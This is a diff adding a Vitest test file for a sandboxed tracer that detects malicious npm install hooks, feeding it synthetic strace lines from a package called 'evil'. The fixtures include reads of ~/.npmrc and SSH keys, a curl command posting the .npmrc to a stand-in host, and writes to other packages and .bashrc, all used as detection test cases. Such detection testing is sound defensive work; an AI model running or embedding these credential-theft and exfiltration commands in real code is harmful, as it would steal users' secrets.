@@ -1,0 +1,76 @@
+import { describe, expect, it } from 'vitest'
+import { createTraceCollector, loadTraceRules, type TraceScope } from '../../../src/trace/collector.js'
+import { createStraceParser } from '../../../src/trace/strace-parser.js'
+import type { Finding } from '../../../src/types.js'
+
+const rules = loadTraceRules()
+const scope: TraceScope = {
+  pkg: { name: 'evil', version: '1.0.0', location: 'node_modules/evil' },
+  event: 'postinstall',
+  cwd: '/work/p/node_modules/evil',
+  projectDir: '/work/p',
+  packageDir: '/work/p/node_modules/evil',
+  hookTmp: '/run/si/tmp/1-evil',
+  decoyHome: '/run/si/home',
+  realHome: '/home/alice',
+  writable: [],
+  proxyPort: 3128,
+}
+
+/** strace lines (pid, time, call) through the real parser into a collector. */
+const collect = (lines: string[]): Finding[] => {
+  const collector = createTraceCollector(scope, rules)
+  const parser = createStraceParser(collector.onEvent)
+  parser.push(`${lines.join('\n')}\n`)
+  parser.end()
+  return collector.findings()
+}
+
+const NODE = '10 1.0 execve("/usr/bin/node", ["node", "install.js"], 0x1 /* 9 vars */) = 0'
+
+describe('createTraceCollector', () => {
+  it('reports a read of the decoy ~/.npmrc as a credential read that proves intent, folded with its repeats', () => {
+    const read = '10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "/run/si/home/.npmrc", O_RDONLY|O_CLOEXEC) = 3</run/si/home/.npmrc>'
+    const findings = collect([NODE, read, read.replace(' 1.1 ', ' 1.2 ')])
+    expect(findings).toEqual([expect.objectContaining({
+      rule: 'credential-read', severity: 'error', package: expect.objectContaining({ name: 'evil' }), event: 'postinstall',
+      evidence: expect.objectContaining({ path: '/run/si/home/.npmrc', decoy: true, count: 2, pid: 10, syscall: 'openat' }),
+    })])
+    expect(findings[0]?.message).toContain('proves intent')
+  })
+  it('reports an attempt on the real home that the sandbox hid, and resolves relative paths against the decoded cwd', () => {
+    const findings = collect([NODE, '10 1.1 openat(AT_FDCWD</home/alice>, ".ssh/id_ed25519", O_RDONLY) = -1 ENOENT (No such file or directory)'])
+    expect(findings).toEqual([expect.objectContaining({ rule: 'credential-read', action: 'blocked', evidence: expect.objectContaining({ path: '/home/alice/.ssh/id_ed25519', decoy: false }) })])
+  })
+  it('does not flag npm reading its own user config', () => {
+    const npm = '11 1.0 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "build"], 0x1 /* 9 vars */) = 0'
+    const findings = collect([npm, '11 1.1 openat(AT_FDCWD</work/p>, "/run/si/home/.npmrc", O_RDONLY) = 3'])
+    expect(findings.filter((f) => f.severity === 'error')).toEqual([])
+  })
+  it('lets sockets to the bridge, the DNS stub and the capture addresses pass, and reports any other', () => {
+    const connect = (addr: string, port: number): string =>
+      `10 1.1 connect(5<socket:[1]>, {sa_family=AF_INET, sin_port=htons(${port}), sin_addr=inet_addr("${addr}")}, 16) = -1 EINPROGRESS (Operation now in progress)`
+    const findings = collect([NODE, connect('127.0.0.1', 3128), connect('127.0.0.1', 53), connect('127.1.0.7', 443), connect('10.0.0.8', 443), connect('127.0.0.1', 22)])
+    expect(findings.map((f) => `${f.rule} ${String(f.evidence['address'])}:${String(f.evidence['port'])}`)).toEqual([
+      'direct-connection 10.0.0.8:443', 'direct-connection 127.0.0.1:22',
+    ])
+  })
+  it('reports notable programs by the file really executed', () => {
+    const findings = collect([NODE, '12 1.3 execve("/usr/bin/curl", ["npm-helper", "-d", "@/run/si/home/.npmrc", "https://x.test"], 0x1 /* 9 vars */) = 0'])
+    expect(findings).toEqual([expect.objectContaining({ rule: 'process-spawn', evidence: expect.objectContaining({ syscall: 'execve' }) })])
+  })
+  it('allows writes to the package itself and its tmp; reports another package, the manifest and a shell rc', () => {
+    const write = (path: string, result = '3'): string => `10 1.2 openat(AT_FDCWD</work/p/node_modules/evil>, "${path}", O_WRONLY|O_CREAT|O_TRUNC, 0666) = ${result}`
+    const findings = collect([NODE,
+      write('build/out.node'), write('/run/si/tmp/1-evil/x'),
+      write('/work/p/node_modules/lodash/index.js', '-1 EROFS (Read-only file system)'),
+      write('/work/p/package.json', '-1 EROFS (Read-only file system)'),
+      write('/home/alice/.bashrc', '-1 ENOENT (No such file or directory)'),
+    ])
+    expect(findings.map((f) => `${f.rule} ${f.severity} ${f.action} ${String(f.evidence['path'])}`)).toEqual([
+      'package-tamper error blocked /work/p/node_modules/lodash/index.js',
+      'package-tamper error blocked /work/p/package.json',
+      'persistence error blocked /home/alice/.bashrc',
+    ])
+  })
+})
